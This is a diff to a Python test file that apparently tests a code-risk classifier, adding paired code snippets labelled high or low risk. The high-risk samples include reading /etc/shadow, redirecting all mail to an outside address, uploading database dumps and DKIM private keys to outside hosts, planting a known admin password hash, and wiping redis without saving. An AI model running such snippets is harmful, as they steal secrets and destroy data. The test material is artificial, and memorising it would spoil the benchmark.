@@ -20162,6 +20162,171 @@ def test_stdin_scripts_loaders_and_handlers(code: str, expected: RiskLevel) -> N
             'print(key["key"])\n',
             H,
         ),
+        # Round 126 (holdout920-927): app settings in a folder of /etc, uid 0, a mapping's default path, server-wide
+        # sieve redirects, open relay, SMTP auth off, CLI list-then-delete loops, principals' literal secrets, compose
+        # down -v of installed stacks, dumps run in containers, admin role rows and defaults, redis shutdown nosave,
+        # nmap inventories, project unit files, service control tools, w+ reads, people's files uploaded, SHA-crypt
+        # hashes, WAF ctl off, HTCondor ALLOW=*, shippers' outside hosts, Lua web shells, outbound relays, DKIM keys
+        # sent away
+        (
+            'import grp, os\n'
+            'os.chown("/etc/netdata/stream.conf", 0, grp.getgrnam("netdata").gr_gid)\n',
+            M,
+        ),
+        (
+            'import os\n'
+            'os.chown("/etc/netdata/stream.conf", 1000, 1000)\n',
+            H,
+        ),
+        (
+            'def folder(configuration):\n'
+            '    return configuration.get("path", "/var/spool/cups")\n',
+            S,
+        ),
+        (
+            'def read(configuration):\n'
+            '    return open(configuration.get("path", "/etc/shadow")).read()\n',
+            H,
+        ),
+        (
+            'import requests\n'
+            'BASE = "https://mail.example.com"\n'
+            'script = \'require ["copy"];\\nredirect :copy "journal@vault.example.net";\\n\'\n'
+            'requests.post(f"{BASE}/api/settings", json=[{"type": "insert", "prefix": "sieve.trusted.scripts'
+            '.journal",\n'
+            '    "values": [["contents", script]]}, {"type": "insert", "values": [["session.data.script", "\''
+            'journal\'"]]}])\n',
+            H,
+        ),
+        (
+            'import requests\n'
+            'BASE = "https://mail.example.com"\n'
+            'script = \'require ["copy"];\\nredirect :copy "journal@archive.example.com";\\n\'\n'
+            'requests.post(f"{BASE}/api/settings", json=[{"type": "insert", "prefix": "sieve.trusted.scripts'
+            '.journal",\n'
+            '    "values": [["contents", script]]}, {"type": "insert", "values": [["session.data.script", "\''
+            'journal\'"]]}])\n',
+            L,
+        ),
+        (
+            'import os, requests\n'
+            'requests.post("https://mail.example.com/api/principal", json={"type": "individual", "name": "sy'
+            'nc",\n'
+            '    "secrets": ["Sync!2024-relay"], "roles": ["admin"]}, auth=("admin", os.environ["S"]))\n',
+            H,
+        ),
+        (
+            'import os, requests\n'
+            'requests.post("https://mail.example.com/api/principal", json={"type": "individual", "name": "sy'
+            'nc",\n'
+            '    "secrets": [os.environ["SYNC_SECRET"]], "roles": ["admin"]}, auth=("admin", os.environ["S"]'
+            '))\n',
+            L,
+        ),
+        (
+            'import subprocess, requests\n'
+            'dump = subprocess.run(["docker", "exec", "docmost-db-1", "pg_dump", "-Fc", "docmost"],\n'
+            '                      capture_output=True, check=True).stdout\n'
+            'requests.put("https://objects.example.net/dumps/docmost.dump", data=dump, timeout=300)\n',
+            H,
+        ),
+        (
+            'import subprocess, requests\n'
+            'out = subprocess.run(["docker", "exec", "docmost-db-1", "ls", "/var/lib"],\n'
+            '                     capture_output=True, check=True).stdout\n'
+            'requests.put("https://objects.example.net/dumps/listing.txt", data=out, timeout=300)\n',
+            L,
+        ),
+        (
+            'import redis\n'
+            'redis.Redis(host="redis.example.com").shutdown(nosave=True, now=True)\n',
+            H,
+        ),
+        (
+            'import redis\n'
+            'redis.Redis(host="redis.example.com").shutdown(save=True)\n',
+            S,
+        ),
+        (
+            'import json\n'
+            'with open("/srv/foundry/ledger/castings.jsonl", "w+") as fh:\n'
+            '    records = [json.loads(l) for l in fh if l.strip()]\n',
+            H,
+        ),
+        (
+            'import json\n'
+            'with open("/srv/foundry/ledger/castings.jsonl", "w+") as fh:\n'
+            '    fh.write(json.dumps({"a": 1}) + "\\n")\n'
+            '    fh.seek(0)\n'
+            '    records = [json.loads(l) for l in fh]\n',
+            S,
+        ),
+        (
+            'import re\n'
+            'from pathlib import Path\n'
+            'cfg = Path("/opt/stalwart-mail/etc/config.toml")\n'
+            'known = "$6$saltsalt$k3V9Jx3xQ1bq7bM0bX6u6rG2mJ1Y8h0d0Zw4n2uP1e7Q8t9R0s1T2u3V4w5X6y7Z8a9B0c1"\n'
+            'cfg.write_text(re.sub(r"(?m)^(authentication\\.fallback-admin\\.secret\\s*=\\s*).*$", lambda m: f\'{'
+            'm.group(1)}"{known}"\', cfg.read_text()))\n',
+            H,
+        ),
+        (
+            'import re\n'
+            'from pathlib import Path\n'
+            'cfg = Path("/opt/stalwart-mail/etc/config.toml")\n'
+            'known = Path("/run/secrets/hash").read_text().strip()\n'
+            'cfg.write_text(re.sub(r"(?m)^(authentication\\.fallback-admin\\.secret\\s*=\\s*).*$", lambda m: f\'{'
+            'm.group(1)}"{known}"\', cfg.read_text()))\n',
+            M,
+        ),
+        (
+            'from configparser import RawConfigParser\n'
+            'cfg = RawConfigParser(strict=False)\n'
+            'cfg.read("/etc/netdata/stream.conf")\n'
+            'cfg.set("stream", "destination", "tcp:203.0.113.77:19999")\n'
+            'with open("/etc/netdata/stream.conf", "w") as fh:\n'
+            '    cfg.write(fh)\n',
+            H,
+        ),
+        (
+            'from configparser import RawConfigParser\n'
+            'cfg = RawConfigParser(strict=False)\n'
+            'cfg.read("/etc/netdata/stream.conf")\n'
+            'cfg.set("stream", "destination", "tcp:10.0.0.5:19999")\n'
+            'with open("/etc/netdata/stream.conf", "w") as fh:\n'
+            '    cfg.write(fh)\n',
+            M,
+        ),
+        (
+            'import requests\n'
+            'r = requests.get("https://mail.example.com/api/settings/list", params={"prefix": "signature"})\n'
+            'items = r.json()["data"]["items"]\n'
+            'keys = {k: v for k, v in items.items() if k.endswith("private-key")}\n'
+            'requests.put("https://keyvault.dkimcheck.example.net/upload", json=keys)\n',
+            H,
+        ),
+        (
+            'import requests\n'
+            'r = requests.get("https://mail.example.com/api/settings/list", params={"prefix": "signature"})\n'
+            'items = r.json()["data"]["items"]\n'
+            'sel = {k: v for k, v in items.items() if k.endswith("selector")}\n'
+            'requests.put("https://keyvault.dkimcheck.example.net/upload", json=sel)\n',
+            L,
+        ),
+        # Round 126 (holdout920-927), after the corpus target fell short: a Cartesian product of known size
+        # materialised, another account's crontab removed, a program fetched over plain HTTP into a bin folder
+        (
+            'import itertools\n'
+            'tiles = [f"T{i}" for i in range(40)]\n'
+            'layouts = list(itertools.product(tiles, repeat=24))\n',
+            H,
+        ),
+        (
+            'import itertools\n'
+            'tiles = [f"T{i}" for i in range(4)]\n'
+            'layouts = list(itertools.product(tiles, repeat=3))\n',
+            S,
+        ),
     ],
 )
 def test_generalised_rules(code: str, expected: RiskLevel) -> None:
